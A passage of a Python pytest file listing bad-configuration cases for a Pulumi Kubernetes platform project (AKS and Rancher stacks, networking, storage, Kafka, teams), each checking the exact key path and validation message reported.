"""Bad config: each case names the exact key path and message, and nothing is registered.

Each case starts from a shipped stack file (parsed once), mutates a copy, writes it to a temporary
stack file and evaluates it the way `python -m stacks inventory` does.
"""

from __future__ import annotations

import copy
from pathlib import Path

import pytest
import yaml

from stacks.tools.inventory import evaluate
from stacks.loader import ConfigError, load
from stacks.model.infrastructure import Aks, Rancher

STACKS_DIR = Path(__file__).resolve().parents[2] / "stacks"
BASE = {stack: yaml.safe_load((STACKS_DIR / f"Pulumi.{stack}.yaml").read_text()) for stack in ("prod", "dev", "onprem-dc2", "local")}
NS = "complete-cluster:"


def section(document: dict, name: str):
    return document["config"][NS + name]


def set_in(name: str, path: str, value):
    """A mutation that sets `path` (dotted, list indices as numbers) inside one config section."""

    def mutate(document):
        node = section(document, name)
        keys = path.split(".")
        for key in keys[:-1]:
            node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
        if isinstance(node, list):
            node[int(keys[-1])] = value
        else:
            node[keys[-1]] = value

    return mutate


def delete_in(name: str, path: str):
    def mutate(document):
        node = section(document, name)
        keys = path.split(".")
        for key in keys[:-1]:
            node = node[int(key)] if isinstance(node, list) else node[key]
        del node[keys[-1]]

    return mutate


def set_section(name: str, value):
    def mutate(document):
        document["config"][NS + name] = value

    return mutate


def secure(letter: str) -> dict:
    """A `secure:` leaf in the shape Pulumi writes (`v1:<nonce>:<ciphertext>`), distinct per letter."""
    return {"secure": f"v1:AAAA:{letter * 4}"}


PLAIN_SECRET = "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path 'complete-cluster:{}' <value> --stack {}`"

CASES = [
    # (id, base stack, mutation, key path, message)
    ("environment-unknown", "prod", set_section("environment", "staging"), "environment", "Input should be 'dev', 'test' or 'prod'"),
    ("environment-missing", "prod", lambda d: d["config"].pop(NS + "environment"), "environment", "is required"),
    # Issue 9: budgets and on-premises chargeback rates.
    ("budget-zero", "prod", set_section("policy", {"budget_monthly": 0}), "policy.budget_monthly", "Input should be greater than 0"),
    (
        "budget-currency-unpriced",
        "prod",
        set_section("policy", {"budget_monthly": 1000, "currency": "EUR"}),
        "policy.currency",
        "Input should be 'USD'",
    ),
    (
        "chargeback-negative",
        "onprem-dc2",
        set_in("policy", "chargeback.per_vcpu", -5),
        "policy.chargeback.per_vcpu",
        "Input should be greater than or equal to 0",
    ),
    (
        "chargeback-key-typo",
        "onprem-dc2",
        set_in("policy", "chargeback.per_cpu", 20),
        "policy.chargeback.per_cpu",
        "unknown key (did you mean `per_vcpu`?)",
    ),
    ("unknown-section", "prod", set_section("teamz", []), "teamz", "unknown key (did you mean `teams`?)"),
    (
        "foreign-namespace",
        "prod",
        lambda d: d["config"].__setitem__("aws:region", "x"),
        "aws:region",
        "not a key of this project; write it as `complete-cluster:<section>` (sections: environment, site, ownership, infrastructure, "
        "storage, services, teams, policy, charts)",
    ),
    (
        "unknown-file-key",
        "prod",
        lambda d: d.__setitem__("configs", {}),
        "configs",
        "unknown top-level key; a stack file holds config, encryptedkey, encryptionsalt, environment, secretsprovider",
    ),
    (
        "site-name-invalid",
        "prod",
        set_in("site", "name", "Central_India"),
        "site.name",
        "`Central_India` is not a valid Kubernetes name: use at most 63 lower-case letters, digits and '-', starting and ending with a "
        "letter or digit",
    ),
    (
        "secondary-without-primary",
        "onprem-dc2",
        delete_in("site", "primary"),
        "site.primary",
        "a secondary site must name its primary site's stack (e.g. `onprem-dc1`)",
    ),
    (
        "primary-names-primary",
        "prod",
        set_in("site", "primary", "onprem-dc1"),
        "site.primary",
        "only a secondary site names a primary; remove it or set `role: secondary`",
    ),
    ("site-role-invalid", "prod", set_in("site", "role", "standby"), "site.role", "Input should be 'primary' or 'secondary'"),
    (
        "infrastructure-kind-unknown",
        "prod",
        set_in("infrastructure", "kind", "eks"),
        "infrastructure.kind",
        "`eks` is not a kind here; use one of 'aks', 'rancher', 'render', 'existing'",
    ),
    (
        "infrastructure-kind-missing",
        "local",
        delete_in("infrastructure", "kind"),
        "infrastructure.kind",
        "is required (it chooses which settings apply)",
    ),
    (
        "infrastructure-key-typo",
        "prod",
        set_in("infrastructure", "regoin", "x"),
        "infrastructure.regoin",
        "unknown key (did you mean `region`?)",
    ),
    (
        "node-pool-min-above-max",
        "prod",
        set_in("infrastructure", "node_pools.ai.min_count", 30),
        "infrastructure.node_pools.ai.min_count",
        "must be <= max_count (30 > 25)",
    ),
    (
        "node-pool-negative",
        "prod",
        set_in("infrastructure", "node_pools.general.min_count", -1),
        "infrastructure.node_pools.general.min_count",
        "Input should be greater than or equal to 0",
    ),
    (
        "node-pool-key-typo",
        "prod",
        set_in("infrastructure", "node_pools.ai.max_cuont", 3),
        "infrastructure.node_pools.ai.max_cuont",
        "unknown key (did you mean `max_count`?)",
    ),
    (
        "vm-size-not-allowed",
        "prod",
        set_in("infrastructure", "node_pools.general.vm_size", "Standard_M128s"),
        "infrastructure.node_pools.general.vm_size",
        "`Standard_M128s` is not in allowed_vm_sizes (Standard_D2ds_v5, Standard_D4ds_v5, Standard_D8ds_v5, Standard_E4ds_v5, "
        "Standard_E8ds_v5, Standard_NC4as_T4_v3, Standard_NC8as_T4_v3)",
    ),
    (
        "gpu-pool-without-gpu-size",
        "prod",
        set_in("infrastructure", "node_pools.ai.vm_size", "Standard_D8ds_v5"),
        "infrastructure.node_pools.ai.vm_size",
        "`Standard_D8ds_v5` is not a GPU VM size; a GPU pool needs an N-series size such as `Standard_NC4as_T4_v3`",
    ),
    (
        "spot-outside-dev",
        "prod",
        set_in("infrastructure", "node_pools.ai.spot", True),
        "infrastructure.node_pools.ai.spot",
        "spot VMs are allowed only in dev, not in prod",
    ),
    (
        "system-pool-to-zero",
        "prod",
        set_in("infrastructure", "node_pools.system.min_count", 0),
        "infrastructure.node_pools.system.min_count",
        "the system pool needs at least 1 node",
    ),
    (
        "two-system-pools",
        "prod",
        set_in("infrastructure", "node_pools.general.mode", "System"),
        "infrastructure.node_pools",
        "declare exactly one pool with `mode: System`",
    ),
    (
        "pool-name-invalid",
        "prod",
        set_in("infrastructure", "node_pools.gpu_pool", {"vm_size": "Standard_NC8as_T4_v3", "min_count": 0, "max_count": 1, "gpu": True}),
        "infrastructure.node_pools.gpu_pool",
        "an AKS pool name is 1-12 lower-case letters and digits, starting with a letter",
    ),
    (
        "taint-malformed",
        "prod",
        set_in("infrastructure", "node_pools.database.taints", ["nodeType:database"]),
        "infrastructure.node_pools.database.taints[0]",
        "`nodeType:database` is not a taint; write it as `key=value:NoSchedule` (or PreferNoSchedule, NoExecute)",
    ),
    (
        "prod-public-api-server",
        "prod",
        set_in("infrastructure", "api_server", {"public": True, "authorized_ranges": ["203.0.113.0/24"]}),
        "infrastructure.api_server.public",
        "prod must not expose the API server publicly; set `public: false`",
    ),
    (
        "public-api-without-ranges",
        "dev",
        set_in("infrastructure", "api_server.authorized_ranges", []),
        "infrastructure.api_server.authorized_ranges",
        "a public API server needs authorized ranges; list the CIDRs allowed to reach it",
    ),
    (
        "prod-free-tier",
        "prod",
        set_in("infrastructure", "sku_tier", "Free"),
        "infrastructure.sku_tier",
        "prod needs the `Standard` tier (financially backed API server SLA)",
    ),
    (
        "cidr-invalid",
        "prod",
        set_in("infrastructure", "network.pod_cidr", "192.168.0.0/33"),
        "infrastructure.network.pod_cidr",
        "`192.168.0.0/33` is not a valid CIDR range ('192.168.0.0/33' does not appear to be an IPv4 or IPv6 network)",
    ),
    (
        "cidr-host-bits",
        "prod",
        set_in("infrastructure", "network.service_cidr", "172.16.0.1/16"),
        "infrastructure.network.service_cidr",
        "`172.16.0.1/16` is not a valid CIDR range (172.16.0.1/16 has host bits set)",
    ),
    (
        "cidrs-overlap",
        "prod",
        set_in("infrastructure", "network.pod_cidr", "10.30.128.0/17"),
        "infrastructure.network.pod_cidr",
        "10.30.128.0/17 overlaps vnet_cidr (10.30.0.0/16); choose disjoint ranges",
    ),
    (
        "subnet-outside-vnet",
        "prod",
        set_in("infrastructure", "network.node_subnet_cidr", "10.31.0.0/20"),
        "infrastructure.network.node_subnet_cidr",
        "10.31.0.0/20 must lie inside vnet_cidr 10.30.0.0/16",
    ),
    (
        "subnet-of-another-ip-version",
        "dev",
        set_in("infrastructure", "network.node_subnet_cidr", "fd00::/64"),
        "infrastructure.network.node_subnet_cidr",
        "fd00::/64 must lie inside vnet_cidr 10.10.0.0/16",
    ),
    (
        "dns-ip-outside-services",
        "prod",
        set_in("infrastructure", "network.dns_service_ip", "10.30.0.10"),
        "infrastructure.network.dns_service_ip",
        "10.30.0.10 must lie inside service_cidr 172.16.0.0/16",
    ),
    (
        "admin-group-not-guid",
        "prod",
        set_in("infrastructure", "admin_group_ids", ["platform-admins"]),
        "infrastructure.admin_group_ids[0]",
        "`platform-admins` is not an Entra ID object ID (a GUID)",
    ),
    (
        "aks-version-invalid",
        "prod",
        set_in("infrastructure", "kubernetes_version", "latest"),
        "infrastructure.kubernetes_version",
        "`latest` is not an AKS Kubernetes version such as `1.33` or `1.33.2`",
    ),
    (
        "aks-version-too-old",
        "prod",
        set_in("infrastructure", "kubernetes_version", "1.29"),
        "infrastructure.kubernetes_version",
        "`1.29` is older than Kubernetes 1.30, the oldest the platform runs on: choose a later version (the platform's "
        "admission policies need admissionregistration.k8s.io/v1)",
    ),
    (
        "prod-public-api-without-ranges",
        "prod",
        set_in("infrastructure", "api_server", {"public": True}),
        "infrastructure.api_server.authorized_ranges",
        "a public API server needs authorized ranges; list the CIDRs allowed to reach it",
    ),
    (
        "private-api-with-ranges",
        "prod",
        set_in("infrastructure", "api_server", {"authorized_ranges": ["203.0.113.0/24"]}),
        "infrastructure.api_server.authorized_ranges",
        "a private API server takes no authorized ranges; remove them or set `public: true`",
    ),
    (
        "api-open-to-internet",
        "dev",
        set_in("infrastructure", "api_server.authorized_ranges", ["0.0.0.0/0"]),
        "infrastructure.api_server.authorized_ranges[0]",
        "0.0.0.0/0 opens the API server to the whole internet; list only the networks that administer the cluster",
    ),
    (
        "service-cidr-overlaps-pods",
        "dev",
        set_in("infrastructure", "network.service_cidr", "192.168.128.0/17"),
        "infrastructure.network.service_cidr",
        "192.168.128.0/17 overlaps pod_cidr (192.168.0.0/16); choose disjoint ranges",
    ),
    (
        "premium-pool-on-standard-size",
        "prod",
        set_in("infrastructure", "node_pools.database.vm_size", "Standard_D4d_v5"),
        "infrastructure.node_pools.database.vm_size",
        "`Standard_D4d_v5` cannot attach Premium SSD; choose a size with `s` in its features such as `Standard_E4ds_v5`",
    ),
    (
        "prod-without-defender",
        "prod",
        set_in("infrastructure", "defender", False),
        "infrastructure.defender",
        "prod needs Microsoft Defender threat detection; set `defender: true`",
    ),
    (
        "prod-without-azure-policy",
        "prod",
        set_in("infrastructure", "azure_policy", False),
        "infrastructure.azure_policy",
        "prod needs the Azure Policy add-on; set `azure_policy: true`",
    ),
    (
        "prod-stopped-after-hours",
        "prod",
        set_in("infrastructure", "working_hours", {"time_zone": "India Standard Time"}),
        "infrastructure.working_hours",
        "prod runs around the clock; remove `working_hours`",
    ),
    (
        "working-hours-stop-before-start",
        "dev",
        set_in("infrastructure", "working_hours.stop_hour", 7),
        "infrastructure.working_hours.stop_hour",
        "must be later than start_hour (7 <= 8)",
    ),
    (
        "maintenance-offset-invalid",
        "prod",
        set_in("infrastructure", "maintenance.utc_offset", "+5:30"),
        "infrastructure.maintenance.utc_offset",
        "`+5:30` is not a UTC offset such as `+05:30` or `-07:00`",
    ),
    (
        "kubelogin-mode-unknown",
        "prod",
        set_in("infrastructure", "kubelogin_mode", "devicecode"),
        "infrastructure.kubelogin_mode",
        "Input should be 'azurecli', 'workloadidentity' or 'spn'",
    ),
    (
        "log-retention-too-short",
        "prod",
        set_in("infrastructure", "log_retention_days", 7),
        "infrastructure.log_retention_days",
        "Input should be greater than or equal to 30",
    ),
    (
        "rancher-cidrs-overlap",
        "onprem-dc2",
        set_in("infrastructure", "network.service_cidr", "10.52.128.0/17"),
        "infrastructure.network.service_cidr",
        "10.52.128.0/17 overlaps cluster_cidr (10.52.0.0/16); choose disjoint ranges",
    ),
    (
        "rancher-even-etcd",
        "onprem-dc2",
        set_in("infrastructure", "machine_pools.control.quantity", 2),
        "infrastructure.machine_pools",
        "etcd needs an odd number of members for quorum, not 2",
    ),
    (
        "rancher-no-workers",
        "onprem-dc2",
        set_in("infrastructure", "machine_pools", {"control": {"quantity": 3, "roles": ["etcd", "controlplane"]}}),
        "infrastructure.machine_pools",
        "no pool with nodes has the role(s) worker",
    ),
    (
        "snapshot-retention-zero",
        "onprem-dc2",
        set_in("infrastructure", "etcd_snapshots", {"retention": 0}),
        "infrastructure.etcd_snapshots.retention",
        "Input should be greater than or equal to 1",
    ),
    (
        "rancher-version-invalid",
        "onprem-dc2",
        set_in("infrastructure", "kubernetes_version", "1.33"),
        "infrastructure.kubernetes_version",
        "`1.33` is not an RKE2 version such as `v1.33.5+rke2r1`",
    ),
    (
        "rancher-version-too-old",
        "onprem-dc2",
        set_in("infrastructure", "kubernetes_version", "v1.29.15+rke2r1"),
        "infrastructure.kubernetes_version",
        "`v1.29.15+rke2r1` is older than Kubernetes 1.30, the oldest the platform runs on: choose a later version (the "
        "platform's admission policies need admissionregistration.k8s.io/v1)",
    ),
    # Issue 8: the sites of an environment, checked against the other stack files.
    (
        "two-primaries",
        "onprem-dc2",
        set_section("site", {"name": "dc2", "role": "primary"}),
        "site.role",
        "`onprem-dc1` is a primary too and lists this stack among its secondaries; an environment has one primary: "
        "to fail over, make `onprem-dc1` a secondary naming `onprem-dc2` (docs/runbooks/disaster-recovery.md)",
    ),
    (
        "primary-not-a-stack",
        "onprem-dc2",
        set_in("site", "primary", "onprem-dc9"),
        "site.primary",
        "there is no stack `onprem-dc9`; name the primary site's stack (stacks/Pulumi.<stack>.yaml)",
    ),
    (
        "primary-of-another-environment",
        "onprem-dc2",
        set_in("site", "primary", "dev"),
        "site.primary",
        "`dev` is a dev stack; a prod secondary stands by for a prod primary",
    ),
    (
        "primary-does-not-list-it",
        "onprem-dc2",
        set_in("site", "primary", "prod"),
        "site.primary",
        "`prod` does not list `onprem-dc2` in its site.secondaries; add it there, so both stack files describe the same pair",
    ),
    (
        "own-primary",
        "onprem-dc2",
        set_in("site", "primary", "onprem-dc2"),
        "site.primary",
        "a site cannot be its own primary; name the primary site's stack",
    ),
    (
        "secondary-lists-secondaries",
        "onprem-dc2",
        set_in("site", "secondaries", ["onprem-dc1"]),
        "site.secondaries",
        "only a primary site lists secondaries; remove them or set `role: primary`",
    ),
    (
        "sites-pod-ranges-overlap",
        "onprem-dc2",
        set_in("infrastructure", "network.cluster_cidr", "10.42.0.0/16"),
        "infrastructure.network.cluster_cidr",
        "10.42.0.0/16 overlaps cluster_cidr of `onprem-dc1` (10.42.0.0/16); the sites of one environment need disjoint ranges",
    ),
    (
        "sites-service-ranges-overlap",
        "onprem-dc2",
        set_in("infrastructure", "network.service_cidr", "10.43.0.0/17"),
        "infrastructure.network.service_cidr",
        "10.43.0.0/17 overlaps service_cidr of `onprem-dc1` (10.43.0.0/16); the sites of one environment need disjoint ranges",
    ),
    (
        "sites-node-ranges-overlap",
        "onprem-dc2",
        set_in("infrastructure", "network.node_cidr", "10.1.0.0/16"),
        "infrastructure.network.node_cidr",
        "10.1.0.0/16 overlaps node_cidr of `onprem-dc1` (10.1.0.0/24); the sites of one environment need disjoint ranges",
    ),
    (
        "rancher-nodes-in-pod-range",
        "onprem-dc2",
        set_in("infrastructure", "network.node_cidr", "10.52.1.0/24"),
        "infrastructure.network.cluster_cidr",
        "10.52.0.0/16 overlaps node_cidr (10.52.1.0/24); choose disjoint ranges",
    ),
    (
        "rancher-node-range-missing",
        "onprem-dc2",
        delete_in("infrastructure", "network.node_cidr"),
        "infrastructure.network.node_cidr",
        "is required",
    ),
    (
        "group-principal-missing",
        "onprem-dc2",
        delete_in("infrastructure", "group_principal"),
        "infrastructure.group_principal",
        "is required",
    ),
    (
        "group-principal-without-group",
        "onprem-dc2",
        set_in("infrastructure", "group_principal", "activedirectory_group://CN=developers"),
        "infrastructure.group_principal",
        "`activedirectory_group://CN=developers` is not a group principal template; write it as `<provider>_group://...{group}...`, "
        "e.g. `activedirectory_group://CN={group},OU=Groups,DC=example,DC=com`",
    ),
    (
        "registry-mirror-project-invalid",
        "onprem-dc2",
        set_in("infrastructure", "registry_mirrors", {"docker.io": "Docker Hub"}),
        "infrastructure.registry_mirrors.docker.io",
        "`Docker Hub` is not a Harbor project name (lower-case letters, digits, '.', '_' and '-')",
    ),
    (
        "cni-without-network-policy",
        "onprem-dc2",
        set_in("infrastructure", "cni", "flannel"),
        "infrastructure.cni",
        "Input should be 'canal', 'calico' or 'cilium'",
    ),
    (
        "snapshot-schedule-invalid",
        "onprem-dc2",
        set_in("infrastructure", "etcd_snapshots", {"schedule": "every 6h"}),
        "infrastructure.etcd_snapshots.schedule",
        "`every 6h` is not a cron expression: it needs 5 fields (minute hour day-of-month month day-of-week), not 2",
    ),
    (
        "snapshot-restore-generation-zero",
        "onprem-dc2",
        set_in("infrastructure", "etcd_snapshots", {"restore": {"snapshot": "prod-dc2-etcd-snapshot-1", "generation": 0}}),
        "infrastructure.etcd_snapshots.restore.generation",
        "Input should be greater than or equal to 1",
    ),
    (
        "rancher-without-s3",
        "onprem-dc2",
        set_section("storage", {"kind": "azure_blob", "replication": "Standard_GRS"}),
        "storage",
        "a Rancher cluster ships etcd snapshots to S3-compatible storage; set `storage.kind: s3`",
    ),
    (
        "s3-key-in-plain-text",
        "onprem-dc2",
        set_in("storage", "credentials.access_key_id", "AKIAEXAMPLE"),
        "storage.credentials.access_key_id",
        PLAIN_SECRET.format("storage.credentials.access_key_id", "onprem-dc2"),
    ),
    (
        "s3-over-http",
        "onprem-dc2",
        set_in("storage", "endpoint", "http://s3.dc2.example.com"),
        "storage.endpoint",
        "object storage must be reached over https",
    ),
    (
        "s3-ca-not-a-certificate",
        "onprem-dc2",
        set_in("storage", "ca_certificate", "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n"),
        "storage.ca_certificate",
        "is not one PEM CA certificate (`-----BEGIN CERTIFICATE-----` ... `-----END CERTIFICATE-----`, with `basicConstraints CA:TRUE`); "
        "give the CA's certificate, e.g. `openssl x509 -in ca.crt`",
    ),
    (
        "s3-bucket-invalid",
        "onprem-dc2",
        set_in("storage", "buckets.backups", "DC2_Backups"),
        "storage.buckets.backups",
        "`DC2_Backups` is not a valid S3 bucket (3-63 lower-case letters, digits, '.' and '-') name",
    ),
    (
        "bucket-shared",
        "onprem-dc2",
        set_in("storage", "buckets.logs", "dc2-backups"),
        "storage.buckets.logs",
        "each purpose needs its own bucket; this name is used twice",
    ),
    (
        "azure-container-invalid",
        "prod",
        set_in("storage", "buckets.registry", "reg--istry"),
        "storage.buckets.registry",
        "`reg--istry` is not a valid Azure blob container (3-63 lower-case letters, digits and single hyphens) name",
    ),
    (
        "prod-storage-not-geo-redundant",
        "prod",
        set_in("storage", "replication", "Standard_ZRS"),
        "storage.replication",
        "prod needs geo-redundant storage (Standard_GRS, Standard_RAGRS, Standard_GZRS or Standard_RAGZRS), not Standard_ZRS",
    ),
    (
        "storage-missing-for-backup",
        "prod",
        lambda d: d["config"].pop(NS + "storage"),
        "services.backup.enabled",
        "needs object storage; configure `storage` or disable the service",
    ),
    # Issue 5: object storage, registry and backups.
    (
        "storage-missing-for-registry",
        "onprem-dc2",
        lambda d: d["config"].pop(NS + "storage"),
        "services.registry.enabled",
        "needs object storage; configure `storage` or disable the service",
    ),
    (
        "storage-with-render-target",
        "local",
        set_section(
            "storage",
            {
                "kind": "s3",
                "endpoint": "https://s3.example.com",
                "credentials": {"access_key_id": secure("A"), "secret_access_key": secure("B")},
            },
        ),
        "storage.credentials",
        "a render target writes Kubernetes Secrets to files in plain text, which would expose the object storage credentials; "
        "remove `credentials` (the manifests name the consumers' credential Secrets, which the cluster holds: docs/storage.md) "
        "or deploy to a cluster (`infrastructure.kind: existing`)",
    ),
    (
        "azure-storage-created-by-a-render-target",
        "local",
        set_section("storage", {"kind": "azure_blob"}),
        "storage.account",
        "a render target creates nothing in Azure; name the existing storage account with its containers (`account` and "
        "`resource_group`) or deploy to AKS (`infrastructure.kind: aks`)",
    ),
    (
        "existing-azure-account-without-its-group",
        "local",
        set_section("storage", {"kind": "azure_blob", "account": "ccdevsea0a1b2c3d"}),
        "storage.resource_group",
        "an existing storage account is named by `account` and `resource_group` together; set both",
    ),
    (
        "existing-azure-account-with-settings-of-its-own",
        "local",
        set_section("storage", {"kind": "azure_blob", "account": "ccdevsea0a1b2c3d", "resource_group": "storage",
                                "replication": "Standard_GRS"}),
        "storage.replication",
        "is the existing account `ccdevsea0a1b2c3d`'s own setting, which the program does not manage; remove it",
    ),
    (
        "existing-azure-account-name-invalid",
        "local",
        set_section("storage", {"kind": "azure_blob", "account": "Platform-Storage", "resource_group": "storage"}),
        "storage.account",
        "`Platform-Storage` is not a storage account name (3-24 lower-case letters and digits)",
    ),
    (
        "existing-azure-account-on-aks",
        "prod",
        set_section("storage", {"kind": "azure_blob", "account": "ccprodcin0a1b2c3d", "resource_group": "storage"}),
        "storage.account",
        "with `infrastructure.kind: aks` the program creates the storage account itself; remove `account` and `resource_group` "
        "(an existing account is for render targets)",
    ),
    (
        "s3-without-credentials-on-a-cluster",
        "onprem-dc2",
        delete_in("storage", "credentials"),
        "storage.credentials",
        "the consumers get the site's S3 keys; set them as Pulumi secrets with `pulumi config set --secret --path "
        "'complete-cluster:storage.credentials.access_key_id' <key>` (and `secret_access_key`)",
    ),
    (
        "azure-storage-without-aks",
        "local",
        lambda d: (
            set_section("infrastructure", {"kind": "existing", "kubeconfig": secure("C")})(d),
            set_section("storage", {"kind": "azure_blob"})(d),
        ),
        "storage.kind",
        "an Azure storage account is created in the AKS cluster's resource group; with `infrastructure.kind: existing` "
        "use `kind: s3` (an S3-compatible endpoint the storage administrators run)",
    ),
    (
        "s3-secret-key-in-plain-text",
        "onprem-dc2",
        set_in("storage", "credentials.secret_access_key", "wJalrXUtnFEMI"),
        "storage.credentials.secret_access_key",
        PLAIN_SECRET.format("storage.credentials.secret_access_key", "onprem-dc2"),
    ),
    (
        "registry-hostname-with-scheme",
        "onprem-dc2",
        set_in("services", "registry.hostname", "https://harbor.dc2.example.com"),
        "services.registry.hostname",
        "`https://harbor.dc2.example.com` is not a DNS host name such as `harbor.dc1.example.com` (lower-case, no scheme, no port)",
    ),
    (
        "prod-backup-retention-below-minimum",
        "prod",
        set_in("services", "backup.retention_days", 7),
        "services.backup.retention_days",
        "prod keeps backups at least 30 days (the compliance minimum), not 7; raise retention_days",
    ),
    (
        "backup-schedule-not-cron",
        "prod",
        set_in("services", "backup.schedule", "nightly"),
        "services.backup.schedule",
        "`nightly` is not a cron expression: it needs 5 fields (minute hour day-of-month month day-of-week), not 1",
    ),
    (
        "azure-soft-delete-too-long",
        "prod",
        set_in("storage", "soft_delete_days", 400),
        "storage.soft_delete_days",
        "Input should be less than or equal to 365",
    ),
    (
        "existing-kubeconfig-plain",
        "local",
        set_section("infrastructure", {"kind": "existing", "kubeconfig": "apiVersion: v1"}),
        "infrastructure.kubeconfig",
        PLAIN_SECRET.format("infrastructure.kubeconfig", "local"),
    ),
    (
        "kafka-replication-above-brokers",
        "prod",
        set_in("services", "kafka.default_replication_factor", 5),
        "services.kafka.default_replication_factor",
        "cannot exceed the broker count (5 > 3)",
    ),
    (
        "releases-off-rancher",
        "prod",
        set_in("teams", "0.releases", {"repo": "https://git.example.com/payments/deploy.git", "branch": "main", "paths": ["services"]}),
        "teams[0].releases",
        "Fleet deploys teams' releases at Rancher sites only; remove `releases` (elsewhere teams deploy their releases themselves)",
    ),
    (
        "releases-branch-and-revision",
        "onprem-dc2",
        set_in("teams", "1.releases.branch", "main"),
        "teams[1].releases.branch",
        "give exactly one of `branch` (followed) or `revision` (a tag or commit)",
    ),
    (
        "releases-path-leaves-the-repository",
        "onprem-dc2",
        set_in("teams", "0.releases.paths", ["services", "../other-team"]),
        "teams[0].releases.paths[1]",
        "`../other-team` must be a relative directory of the repository (letters, digits, `.`, `_`, `-`, separated by `/`; no `..`)",
    ),
    (
        "releases-credentials-in-the-url",
        "onprem-dc2",
        set_in("teams", "0.releases.repo", "https://fleet:hunter2@git.example.com/payments/deploy.git"),
        "teams[0].releases.repo",
        "must be a git URL Fleet can clone, with no credentials in it: https://host/path or git@host:path "
        "(use `credentials` for a private HTTPS repository)",
    ),
    (
        "releases-basic-auth-over-ssh",
        "onprem-dc2",
        set_in("teams", "1.releases.credentials",
               {"username": "fleet", "password": {"secure": "v1:FIMnWyw6WH2RZzN2:vy/8PYKLw1xtFROFKzkbyjoAeb2wSmh1AFI1JoLK19CXG4s="}}),
        "teams[1].releases.credentials",
        "basic-auth credentials are for an https:// repository; an ssh repository uses a key",
    ),
    (
        "redis-replicated-between-sites",
        "onprem-dc2",
        set_in("services", "redis.at_failover", "replicate"),
        "services.redis.at_failover",
        "`replicate` is not a failover mode the program builds (nothing replicates this service between sites); use one of rebuilt_empty",
    ),
    (
        "kafka-mirrored-without-a-peer-site",
        "prod",
        set_in("services", "kafka.at_failover", "mirrored"),
        "services.kafka.at_failover",
        "`mirrored` copies the primary's topics to its secondaries, and this site has no peer: list the secondaries in "
        "`site.secondaries` (or make this site a secondary naming its `site.primary`), or use `rebuilt_empty`",
    ),
    (
        "kafka-mirrored-without-its-listener",
        "onprem-dc2",
        delete_in("services", "kafka.site_listener"),
        "services.kafka.site_listener",
        "`at_failover: mirrored` needs the cross-site listener the other sites' MirrorMaker 2 reaches: set `hostname` "
        "(e.g. `kafka.dc1.example.com`) and `peer_ranges` (the other sites' node ranges)",
    ),
    (
        "kafka-mirror-listener-without-peers",
        "onprem-dc2",
        set_in("services", "kafka.site_listener.peer_ranges", []),
        "services.kafka.site_listener.peer_ranges",
        "List should have at least 1 item after validation, not 0",
    ),
    (
        "kafka-mirror-listener-host-with-scheme",
        "onprem-dc2",
        set_in("services", "kafka.site_listener.hostname", "https://kafka.dc2.example.com"),
        "services.kafka.site_listener.hostname",
        "`https://kafka.dc2.example.com` is not a DNS host name such as `grafana.dc1.example.com` (lower-case, no scheme, no port)",
    ),
    (
        "kafka-replicated-some-other-way",
        "onprem-dc2",
        set_in("services", "kafka.at_failover", "replicate"),
        "services.kafka.at_failover",
        "`replicate` is not a failover mode the program builds for Kafka; use one of mirrored, rebuilt_empty",
    ),
    (
        "team-named-like-the-kafka-mirror",
        "onprem-dc2",
        set_in("teams", "1.name", "mirror-dc2"),
        "teams[1].name",
        "`mirror-dc2` is how the sites' MirrorMaker 2 is named in Kafka (`mirror-<site>`, its principal at both sites); "
        "choose another team name",
    ),
    (
        "kafka-without-cert-manager",
        "prod",
        set_in("services", "cert_manager.enabled", False),
        "services.kafka.enabled",
        "Kafka clients authenticate with certificates of the internal CA that cert-manager runs (docs/services.md); "
        "enable services.cert_manager or disable Kafka",
    ),
    (
        "ingress-webhook-without-cert-manager",
        "prod",
        set_in("services", "cert_manager.enabled", False),
        "services.ingress.admission_webhook",
        "the admission webhook's serving certificate is issued by cert-manager (the chart's own certificate Jobs are Helm hooks, "
        "which the program does not run); enable services.cert_manager, or set admission_webhook: false",
    ),
    (
        "kafka-even-controllers",
        "prod",
        set_in("services", "kafka.controllers", 2),
        "services.kafka.controllers",
        "KRaft controllers need an odd count for quorum, not 2",
    ),
    (
        "registry-without-cert-manager",
        "onprem-dc2",
        set_in("services", "cert_manager.enabled", False),
        "services.registry.enabled",
        "Harbor's token-signing certificate is issued by cert-manager's internal CA; enable services.cert_manager",
    ),
    (
        "registry-without-hostname",
        "onprem-dc2",
        set_in("services", "registry.hostname", ""),
        "services.registry.hostname",
        "the registry needs a hostname (e.g. `harbor.dc1.example.com`)",
    ),
    (
        "acme-bad-email",
        "prod",
        set_in("services", "cert_manager.issuer", {"kind": "acme", "email": "platform"}),
        "services.cert_manager.issuer.email",
        "`platform` is not an e-mail address",
    ),
    (
        "team-name-invalid",
        "prod",
        set_in("teams", "0.name", "Payments_Team"),
        "teams[0].name",
        "`Payments_Team` is not a valid Kubernetes name: use at most 63 lower-case letters, digits and '-', starting and ending with a "
        "letter or digit",
    ),
    (
        "team-name-reserved",
        "prod",
        set_in("teams", "0.name", "kube-system"),
        "teams[0].name",
        "`kube-system` is reserved by Kubernetes; choose another team name",
    ),
    ("team-duplicate", "prod", set_in("teams", "1.name", "payments"), "teams[1].name", "team `payments` is already declared at teams[0]"),
    (
        "team-without-groups",
        "prod",
        set_in("teams", "0.groups", []),
        "teams[0].groups",
        "List should have at least 1 item after validation, not 0",
    ),
    # Issue 17 item 1: on AKS, RBAC group subjects are Entra ID object IDs (tokens carry those).
    (
        "aks-team-group-by-name",
        "prod",
        set_in("teams", "0.groups", ["ec0d669f-0671-4915-830f-588dda32860a", "payments-developers"]),
        "teams[0].groups[1]",
        "`payments-developers` is not an Entra ID group object ID: on AKS a token carries its groups' object IDs and Kubernetes RBAC "
        "matches those, so a binding to a group's name grants nothing; find the ID with "
        "`az ad group show --group payments-developers --query id --output tsv`",
    ),
    (
        "aks-platform-group-left-at-its-default-name",
        "dev",
        delete_in("policy", "platform_groups"),
        "policy.platform_groups[0]",
        "`platform-operators` is not an Entra ID group object ID: on AKS a token carries its groups' object IDs and Kubernetes RBAC "
        "matches those, so a binding to a group's name grants nothing; find the ID with "
        "`az ad group show --group platform-operators --query id --output tsv`",
    ),
    # Issue 17 item 2: the AKS cluster's container registry.
    (
        "aks-prod-registry-public",
        "prod",
        set_in("infrastructure", "registry.private_endpoint", False),
        "infrastructure.registry.private_endpoint",
